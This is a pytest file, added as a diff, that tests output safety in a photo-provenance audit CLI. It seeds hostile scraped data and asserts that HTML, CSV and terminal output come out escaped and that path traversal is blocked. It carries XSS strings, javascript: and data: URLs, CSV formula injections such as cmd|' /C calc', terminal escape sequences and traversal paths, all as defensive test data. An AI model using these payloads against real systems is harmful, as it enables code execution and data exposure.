@@ -1,0 +1,309 @@
+"""Output safety: scraped strings reach the HTML report, verify.html, the terminal and the sweep CSV escaped for
+their medium; paths derived from URLs stay inside their folder.
+
+A copy of the demo store gets hostile sightings (alt text, caption, URLs, host) and a hostile signal, is re-audited
+by the real ``provaudit audit``, and every command that prints or writes scraped data is run on it as a subprocess;
+the assertions read what it actually wrote."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import http.client
+import json
+import os
+import re
+import shutil
+import socket
+import subprocess
+import sys
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from PIL import Image
+
+from audit.cli import _json, _plain, _safe
+from audit.lookup import clean
+from audit.store import Store
+from audit.sweep import FORMULA_PREFIXES, csv_safe
+from audit.testweb import TestWebServer, build_web
+from conftest import ROOT
+
+COUNTRY = "FR"
+ESC = "\x1b"
+# what a hostile page can put in alt text, captions, URLs, hosts and metadata
+SCRIPT = '<script>alert("xss")</script>'
+ANSI = f"{ESC}[31mRED{ESC}[0m{ESC}[2J{ESC}]8;;http://evil.test/{ESC}\\osc-link{ESC}]8;;{ESC}\\"
+TERMINAL = f"{ANSI} over\rwrite\x08\x07\x00 c1\x9b31m \u202eevil-bidi\u202c \u2066iso\u2069 zw\u200b\ufeff"
+MARKUP = "[bold red]MARKUP[/] [link=http://evil.test]click[/link] :warning: :flag_for_france:"
+HOSTILE = f"{MARKUP} {SCRIPT} {TERMINAL}"  # markup first: the terminal clips long values
+# every character a terminal must not receive raw from scraped text
+RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
+LIVE_SCHEMES = ("javascript:", "data:", "vbscript:", "file:")
+HOSTILE_URLS = [  # (image_url, page_url): each a formula for a spreadsheet or a script for a browser
+    ("javascript:alert('img')//x.jpg", "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"),
+    (" JaVaScRiPt:alert(1)", "+cmd|' /C calc'!A0"),
+    ("java\tscript:alert(2)", "-2+3+cmd|' /C calc'!A0"),
+    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("vbscript:msgbox(1)", "\t=1+1"),
+    (f"http://evil.test/{SCRIPT}.jpg", "\r=1+1"),
+]
+
+
+def provaudit(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
+    """The real CLI in a subprocess, its output as the raw text a terminal would receive."""
+    return subprocess.run([sys.executable, "-m", "audit.cli", *args], cwd=cwd, capture_output=True, text=True,
+                          timeout=600, errors="surrogateescape", env={**os.environ, "COLUMNS": "3000"})
+
+
+def assert_terminal_safe(text: str) -> None:
+    """No raw control/format character, no interpreted rich markup, no emoji substitution."""
+    bad = RAW_CONTROL.findall(text)
+    assert not bad, f"raw control characters reached the terminal: {sorted(set(bad))!r}"
+    assert "⚠" not in text  # ':warning:' was not turned into an emoji
+
+
+@pytest.fixture(scope="module")
+def hostile(store_path, demo_out, tmp_path_factory):
+    """A re-audited copy of the demo store where FR images carry hostile sightings, and the file of one of them."""
+    root = tmp_path_factory.mktemp("hostile")
+    db = root / "hostile.duckdb"
+    shutil.copy(store_path, db)
+    web = build_web(demo_out / "testweb", photos=60, seed=2022)  # cached: reads, writes nothing
+    with Store.open(db) as s:
+        picks = s.query("""
+            SELECT a.sha256, any_value(x.crawl_id), min(x.image_url) FROM attributions a JOIN sightings x USING (sha256)
+            WHERE a.country = 'FR' AND a.direct_country = 'FR' AND a.direct_tier = 'strong'
+            GROUP BY a.sha256 ORDER BY a.sha256 LIMIT ?""", [len(HOSTILE_URLS)])
+        assert len(picks) == len(HOSTILE_URLS)
+        rows = []
+        for i, ((sha, crawl_id, _), (image_url, page_url)) in enumerate(zip(picks, HOSTILE_URLS, strict=True)):
+            rows.append({"sighting_id": f"hostile-{i}", "crawl_id": crawl_id, "sha256": sha, "image_url": image_url,
+                         "page_url": page_url, "image_host": f"evil{i}.test", "page_host": f"{HOSTILE} host{i}",
+                         "alt_text": f"alt {i} {HOSTILE}", "caption": f'"><img src=x onerror=alert({i})>{HOSTILE}',
+                         "ref_kind": "img"})
+        s.insert("sightings", rows)
+    audit = provaudit("audit", "--db", str(db))
+    assert audit.returncode == 0, audit.stderr
+    assert_terminal_safe(audit.stdout + audit.stderr)
+    with Store.open(db) as s:  # a signal whose every field is hostile, as a hand-edited or foreign store may hold
+        s.insert("signals", [{"signal_id": "hostile-signal", "sha256": picks[0][0], "sighting_id": "hostile-0",
+                              "kind": f"alt_language{HOSTILE}", "country": "FR", "strength": "strong", "weight": 1.0,
+                              "evidence": f"=1+1 {HOSTILE}"}])
+    host, _, path = picks[0][2].split("//", 1)[1].partition("/")
+    photo = web.www / host / path
+    assert hashlib.sha256(photo.read_bytes()).hexdigest() == picks[0][0]
+    return db, photo, [p[0] for p in picks]
+
+
+# --- HTML ---------------------------------------------------------------------------------------------------------
+
+def assert_html_safe(html: str) -> None:
+    assert "<script" not in html.lower()
+    assert not re.search(r"<[^>]+\son[a-z]+\s*=", html, re.I), "an event handler attribute"
+    for attr in re.findall(r'\s(?:href|src|action|formaction|xlink:href)\s*=\s*"([^"]*)"', html, re.I):
+        value = re.sub(r"[\x00-\x20]", "", attr).lower()
+        assert value.startswith(("http://", "https://", "#", "data:image/jpeg;base64,")), attr
+    assert ESC not in html and "\x00" not in html
+
+
+def test_report_escapes_every_scraped_string(hostile, tmp_path):
+    db, _, _ = hostile
+    out = tmp_path / "out"
+    proc = provaudit("report", "--db", str(db), "--country", COUNTRY, "--out", str(out / "report.html"),
+                     "--sample", "1000", "--thumbnails", "--claim", f"claim {SCRIPT}")
+    assert proc.returncode == 0, proc.stderr
+    assert_terminal_safe(proc.stdout + proc.stderr)
+    html = (out / "report.html").read_text(encoding="utf-8")
+    assert_html_safe(html)
+    assert html.count("&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;") >= 2  # alt text shown as text
+    assert "&lt;img src=x onerror=alert(0)&gt;" in html  # the caption too
+    for image_url, _page_url in HOSTILE_URLS[:5]:
+        assert f'href="{image_url.strip().lower()}' not in html.lower()
+    assert "javascript:alert(&#x27;img&#x27;)//x.jpg" in html  # shown, not linked
+    assert json.dumps(SCRIPT)[1:-1] in (out / "report.json").read_text(encoding="utf-8")  # JSON: the exact value
+    assert sorted(p.name for p in out.iterdir()) == ["report.html", "report.json"]  # no file named after a URL
+
+
+def test_verify_html_escapes_every_scraped_string(hostile, tmp_path):
+    db, _, _ = hostile
+    proc = provaudit("verify", "--before", str(db), "--after", str(db), "--country", COUNTRY, "--policy", "strong",
+                     "--out", str(tmp_path / "verify.html"))
+    assert proc.returncode == 0, proc.stderr
+    assert_terminal_safe(proc.stdout + proc.stderr)
+    html = (tmp_path / "verify.html").read_text(encoding="utf-8")
+    assert_html_safe(html)
+    assert f"alt 0 {MARKUP} &lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in html
+    assert "<code>javascript:alert(&#x27;img&#x27;)//x.jpg</code>" in html
+    assert "<code>data:text/html;base64," in html and "<code>vbscript:msgbox(1)</code>" in html
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["verify.html", "verify.json"]
+
+
+# --- CSV ----------------------------------------------------------------------------------------------------------
+
+def test_sweep_csv_cannot_run_formulas(hostile, tmp_path):
+    db, _, shas = hostile
+    path = tmp_path / "sweep.csv"
+    proc = provaudit("sweep", "--db", str(db), "--country", COUNTRY, "--policy", "any-signal", "--out", str(path))
+    assert proc.returncode == 0, proc.stderr
+    assert_terminal_safe(proc.stdout + proc.stderr)
+    with path.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0][0] == "sha256" and len(rows) > len(shas)
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
+    by_sha = {row[0]: row for row in rows[1:]}
+    for sha, (_image_url, page_url) in zip(shas, HOSTILE_URLS, strict=True):
+        page_cell = by_sha[sha][8]
+        assert page_cell == "'" + page_url or page_cell.startswith("'" + page_url + "\n"), page_cell
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
+                                   ["=a", "http://b"]])
+def test_csv_safe_neutralises_every_formula_start(value):
+    cell = csv_safe(value)
+    assert cell.startswith("'") and not cell.startswith(FORMULA_PREFIXES)
+
+
+def test_csv_safe_keeps_plain_values():
+    assert csv_safe("http://x.test/a.jpg") == "http://x.test/a.jpg"
+    assert csv_safe(0.5) == "0.5" and csv_safe(None) == "" and csv_safe(["a", "=b"]) == "a\n=b"
+
+
+# --- terminal -----------------------------------------------------------------------------------------------------
+
+def test_lookup_prints_scraped_text_inert(hostile, tmp_path):
+    db, photo, _ = hostile
+    evil_name = tmp_path / f"me{ESC}[2J{ESC}]0;pwned\x07[bold]x\u202e.jpg"
+    shutil.copy(photo, evil_name)
+    for extra in ([], ["--json"]):
+        proc = provaudit("-v", "lookup", str(evil_name), "--db", str(db), *extra)
+        assert proc.returncode == 0, proc.stderr
+        assert_terminal_safe(proc.stdout + proc.stderr)
+        if extra:
+            (result,) = json.loads(proc.stdout)
+            match = result["matches"][0]
+            alts = [s["alt_text"] for s in match["sightings"] if s["alt_text"] and "script" in s["alt_text"]]
+            assert alts == [f"alt 0 {HOSTILE}"]  # the JSON still holds the exact value, escaped
+            assert result["path"] == str(evil_name)
+        else:
+            assert "<script>alert" in proc.stdout  # shown as typed...
+            assert "[bold red]MARKUP[/] [link=http://evil.test]click[/link]" in proc.stdout  # ...markup included
+            assert ":warning:" in proc.stdout
+            assert "INFO audit.lookup: lookup" in proc.stderr  # the -v log line, escaped too
+
+
+def _hostile_jpeg(path: Path) -> None:
+    img = Image.new("RGB", (64, 48), (120, 80, 40))
+    exif = Image.Exif()
+    exif[0x010E] = f"desc {HOSTILE}"  # ImageDescription
+    exif[0x010F] = f"{ESC}[31mMake"  # Make
+    exif[0x0110] = "[bold]Model[/bold] :warning:"  # Model
+    exif[0x013B] = f"artist\u202eevil{ESC}]8;;http://x{ESC}\\"  # Artist
+    city = "Paris \x9b2J\u202eevil\u202c [bold]City[/bold] :warning: &lt;script&gt;alert(1)&lt;/script&gt;"
+    xmp = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+           '<rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" '
+           'xmlns:Iptc4xmpCore="http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/" photoshop:Country="France" '
+           f'Iptc4xmpCore:CountryCode="FR" photoshop:City="{city}"/></rdf:RDF></x:xmpmeta>')
+    img.save(path, "JPEG", exif=exif, xmp=xmp.encode("utf-8"))
+
+
+CITY = "Paris \x9b2J\u202eevil\u202c [bold]City[/bold] :warning: <script>alert(1)</script>"
+
+
+def test_inspect_prints_metadata_inert(tmp_path):
+    path = tmp_path / f"photo{ESC}[31m\r.jpg"
+    _hostile_jpeg(path)
+    broken = tmp_path / f"broken{ESC}[2J.jpg"
+    broken.write_bytes(b"\xff\xd8\xff\xe1 not really" + ESC.encode() + b"[31m")
+    for extra in ([], ["--json"]):
+        proc = provaudit("inspect", str(path), str(broken), *extra)
+        assert proc.returncode == 0, proc.stderr
+        assert_terminal_safe(proc.stdout + proc.stderr)
+        if extra:
+            objs = [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]
+            assert objs[0]["path"] == str(path) and objs[1]["error"]
+            assert objs[0]["location"]["city"] == CITY  # the exact value, escaped in JSON
+        else:
+            assert "Paris \ufffd2J\ufffdevil\ufffd [bold]City[/bold] :warning: <script>" in proc.stdout
+            assert "photo\ufffd[31m\ufffd.jpg" in proc.stdout  # the table shows no metadata values, only the path
+
+
+def test_ingest_and_error_messages_are_inert(tmp_path):
+    folder = tmp_path / f"in{ESC}[2Jbox"
+    folder.mkdir()
+    _hostile_jpeg(folder / f"a{ESC}]0;title\x07.jpg")
+    (folder / f"b{ESC}[31m.txt").write_text(f"not an image {ESC}[31m", encoding="utf-8")
+    proc = provaudit("ingest", str(folder), "--db", str(tmp_path / "in.duckdb"))
+    assert proc.returncode == 0, proc.stderr
+    assert_terminal_safe(proc.stdout + proc.stderr)
+    # an error message quoting a hostile path (click prints ClickException messages as they are)
+    missing = tmp_path / f"no{ESC}[2Jstore\u202e.duckdb"
+    for args in (["sweep", "--db", str(missing), "--country", "FR"],
+                 ["lookup", str(folder), "--db", str(missing)],
+                 ["ingest", str(tmp_path / f"missing{ESC}[31m"), "--db", str(tmp_path / "x.duckdb")]):
+        proc = provaudit(*args)
+        assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
+        assert_terminal_safe(proc.stdout + proc.stderr)
+
+
+def test_sweep_verify_evaluate_print_inert(hostile, tmp_path):
+    db, _, _ = hostile
+    for args in (["sweep", "--db", str(db), "--country", COUNTRY, "--policy", "any-signal"],
+                 ["sweep", "--db", str(db), "--country", COUNTRY, "--json"],
+                 ["verify", "--before", str(db), "--after", str(db), "--country", COUNTRY, "--json",
+                  "--out", str(tmp_path / "v.html")],
+                 ["evaluate", "--db", str(db)], ["evaluate", "--db", str(db), "--json"]):
+        proc = provaudit(*args)
+        assert proc.returncode == 0, (args, proc.stderr)
+        assert_terminal_safe(proc.stdout + proc.stderr)
+        if "--json" in args:
+            json.loads(proc.stdout)
+    proc = provaudit("evaluate", "--db", str(db))
+    assert "kind alt_language[bold red]MARKUP[/]" in proc.stdout  # the hostile kind, shown as typed
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "x" + "\x85\u2028\u2029\u061c\u2060\u2061\U000e0001\U000f0000" + "y",
+                                  "ends with a backslash \\", "\\[bold]x[/bold]", "[/]"])
+def test_terminal_helpers(text):
+    from rich.console import Console
+
+    for helper in (_safe, clean):
+        shown = helper(text) if helper is _safe else clean(text, 10_000)
+        assert all(ch.isprintable() or ch == " " for ch in shown)
+        console = Console(record=True, width=10_000, emoji=False, highlight=False, color_system=None)
+        console.print(shown)
+        rendered = console.export_text().rstrip("\n")
+        # markup printed as typed, nothing interpreted (rich's escape doubles a final backslash, harmlessly)
+        assert rendered in (_plain(text), _plain(text) + "\\"), (helper, rendered)
+    encoded = _json({"v": text})
+    assert all(ch.isprintable() or ch in "\n " for ch in encoded)
+    assert json.loads(encoded) == {"v": text}
+
+
+# --- paths --------------------------------------------------------------------------------------------------------
+
+def _raw_get(port: int, target: str, host: str) -> tuple[int, bytes]:
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+        sock.sendall(f"GET {target} HTTP/1.0\r\nHost: {host}\r\n\r\n".encode("latin-1"))
+        response = http.client.HTTPResponse(sock)
+        response.begin()
+        return response.status, response.read()
+
+
+def test_testweb_server_paths_stay_inside_the_web(demo_out, tmp_path):
+    web = build_web(demo_out / "testweb", photos=60, seed=2022)
+    host = sorted(web.hosts)[0]
+    with TestWebServer(web) as server:
+        port = urlsplit(server.proxy_url).port
+        assert port is not None
+        status, _ = _raw_get(port, "/", host)
+        assert status in (200, 301, 404)
+        leaks = []
+        for target in ("/../../manifest.json", "/%2e%2e/%2e%2e/manifest.json", "/_site/" + host + "/../../x",
+                       "../../manifest.json", "..%2f..%2fmanifest.json", "%2e%2e/%2e%2e/manifest.json"):
+            status, body = _raw_get(port, target, host)
+            if status == 200 and b'"hosts"' in body:
+                leaks.append(target)
+        assert not leaks, f"files outside www/{host} served for {leaks}"
